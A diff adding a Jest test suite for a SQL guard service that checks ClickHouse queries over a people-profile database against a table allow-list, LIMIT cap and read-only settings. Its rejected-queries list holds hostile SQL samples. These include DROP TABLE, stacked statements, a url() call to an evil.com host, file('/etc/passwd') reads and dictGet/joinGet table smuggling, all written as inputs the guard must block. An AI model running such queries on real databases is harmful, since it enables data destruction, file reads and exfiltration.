@@ -0,0 +1,171 @@
+import { Test, TestingModule } from '@nestjs/testing';
+import { ConfigService } from '@nestjs/config';
+import { SqlGuardService, UnsafeQueryError } from './sql-guard.service';
+
+describe('SqlGuardService', () => {
+  let guard: SqlGuardService;
+
+  beforeEach(async () => {
+    const module: TestingModule = await Test.createTestingModule({
+      providers: [
+        SqlGuardService,
+        {
+          provide: ConfigService,
+          useValue: new ConfigService({
+            SQL_GUARD_ALLOWED_TABLES: 'linkedin.companies',
+            SQL_GUARD_MAX_LIMIT: '2000',
+          }),
+        },
+      ],
+    }).compile();
+
+    guard = module.get<SqlGuardService>(SqlGuardService);
+  });
+
+  describe('accepted queries', () => {
+    it('should keep a SELECT with a LIMIT under the maximum', () => {
+      const result = guard.validate(
+        "SELECT profile_id FROM linkedin.people WHERE city = 'CURITIBA' LIMIT 7;",
+        { maxLimit: 100 },
+      );
+
+      expect(result.sql).toBe(
+        "SELECT profile_id FROM linkedin.people WHERE city = 'CURITIBA' LIMIT 7",
+      );
+      expect(result.limit).toBe(7);
+      expect(result.tables).toEqual(['linkedin.people']);
+    });
+
+    it('should append a LIMIT when missing', () => {
+      const result = guard.validate(
+        'SELECT COUNT(*) as total FROM linkedin.people',
+        { maxLimit: 100 },
+      );
+
+      expect(result.sql).toMatch(/LIMIT 100$/);
+      expect(result.limit).toBe(100);
+    });
+
+    it('should allow the experience metrics join used by compiled criteria', () => {
+      const result = guard.validate(
+        `SELECT profile_id, total_experience_months
+FROM linkedin.people
+LEFT JOIN (SELECT profile_id, total_experience_months FROM people_experience_metrics FINAL) AS metrics USING (profile_id)
+WHERE total_experience_months >= {p0:UInt32}
+ORDER BY total_experience_months DESC, profile_id ASC
+LIMIT 7`,
+        { maxLimit: 100 },
+      );
+
+      expect(result.tables.sort()).toEqual([
+        'linkedin.people',
+        'people_experience_metrics',
+      ]);
+    });
+
+    it('should clamp a LIMIT above the maximum', () => {
+      const result = guard.validate(
+        'SELECT * FROM linkedin.people LIMIT 20, 50000',
+        { maxLimit: 2000 },
+      );
+
+      expect(result.sql).toBe('SELECT * FROM linkedin.people LIMIT 20, 2000');
+    });
+
+    it('should allow subqueries, joins on configured tables and FROM inside functions', () => {
+      const result = guard.validate(
+        `WITH recent AS (SELECT profile_id FROM linkedin.people WHERE updated_at > '2024-01-01')
+         SELECT p.profile_id, EXTRACT(YEAR FROM toDate(p.updated_at)) AS y
+         FROM linkedin.people p
+         JOIN linkedin.companies c ON c.company_id = p.current_company_id
+         WHERE p.profile_id IN (SELECT profile_id FROM recent)
+         LIMIT 10`,
+      );
+
+      expect(result.tables.sort()).toEqual([
+        'linkedin.companies',
+        'linkedin.people',
+      ]);
+    });
+
+    it('should check tables read by IN, dictGet and joinGet', () => {
+      const result = guard.validate(
+        `WITH ids AS (SELECT profile_id FROM linkedin.people)
+         SELECT position(headline IN full_name) AS pos,
+                dictGet('linkedin.companies', 'name', toUInt64(1)) AS company
+         FROM linkedin.people
+         WHERE profile_id IN ids AND current_company_id IN linkedin.companies
+           AND notIn(profile_id, linkedin.companies)
+           AND area IN (headline, city) AND seniority NOT IN (area, city)`,
+      );
+
+      expect(result.tables.sort()).toEqual([
+        'linkedin.companies',
+        'linkedin.people',
+      ]);
+    });
+
+    it('should ignore keywords inside string literals', () => {
+      const result = guard.validate(
+        "SELECT * FROM linkedin.people WHERE headline ILIKE '%drop table; insert%' LIMIT 5",
+      );
+
+      expect(result.limit).toBe(5);
+    });
+
+    it('should accept query parameter placeholders', () => {
+      const result = guard.validate(
+        'SELECT * FROM linkedin.people WHERE profile_id IN {ids:Array(String)} AND headline ILIKE {p0:String} LIMIT 7',
+      );
+
+      expect(result.limit).toBe(7);
+    });
+
+    it('should return read-only ClickHouse settings', () => {
+      const result = guard.validate('SELECT 1 FROM linkedin.people', {
+        maxLimit: 50,
+      });
+
+      expect(result.settings).toMatchObject({
+        readonly: '2',
+        max_result_rows: '50',
+      });
+    });
+  });
+
+  describe('rejected queries', () => {
+    it.each([
+      ['DROP TABLE linkedin.people'],
+      ['SELECT 1 FROM linkedin.people; DROP TABLE linkedin.people'],
+      ['INSERT INTO linkedin.people SELECT * FROM linkedin.people'],
+      ['SELECT * FROM system.users'],
+      ['SELECT * FROM people'],
+      ["SELECT * FROM url('http://evil.com/data', CSV)"],
+      [
+        "SELECT * FROM linkedin.people WHERE 1 IN (SELECT * FROM file('/etc/passwd'))",
+      ],
+      ['SELECT * FROM linkedin.people SETTINGS readonly = 0'],
+      ["SELECT * FROM linkedin.people INTO OUTFILE '/tmp/x'"],
+      ['SELECT * FROM linkedin.people UNION ALL SELECT * FROM linkedin.people'],
+      ["SELECT * FROM linkedin.people WHERE headline = 'unterminated"],
+      ['SELECT * FROM linkedin.people WHERE 1 IN default.users'],
+      ['SELECT * FROM linkedin.people WHERE NOT (name GLOBAL IN `secrets`)'],
+      ["SELECT dictGet('default.secrets', 'value', 1) FROM linkedin.people"],
+      ["SELECT dictGetOrDefault(concat('sys', 'tem.x'), 'v', 1, '')"],
+      ["SELECT joinGet(default.users, 'name', 1) FROM linkedin.people"],
+      ['SELECT * FROM linkedin.people WHERE in(profile_id, default.users)'],
+      ['SELECT * FROM linkedin.people WHERE NOT in(profile_id, default.users)'],
+      ['SELECT * FROM linkedin.people WHERE notIn(profile_id, default.users)'],
+      [
+        'SELECT * FROM linkedin.people WHERE globalIn(profile_id, default.users)',
+      ],
+      [
+        'SELECT * FROM linkedin.people WHERE GLOBALNOTIN(profile_id, default.users)',
+      ],
+      ['SELECT nullIn(profile_id, `default`.users) FROM linkedin.people'],
+      ['SELECT notNullIn(profile_id, default.users) FROM linkedin.people'],
+    ])('should reject %s', (sql) => {
+      expect(() => guard.validate(sql)).toThrow(UnsafeQueryError);
+    });
+  });
+});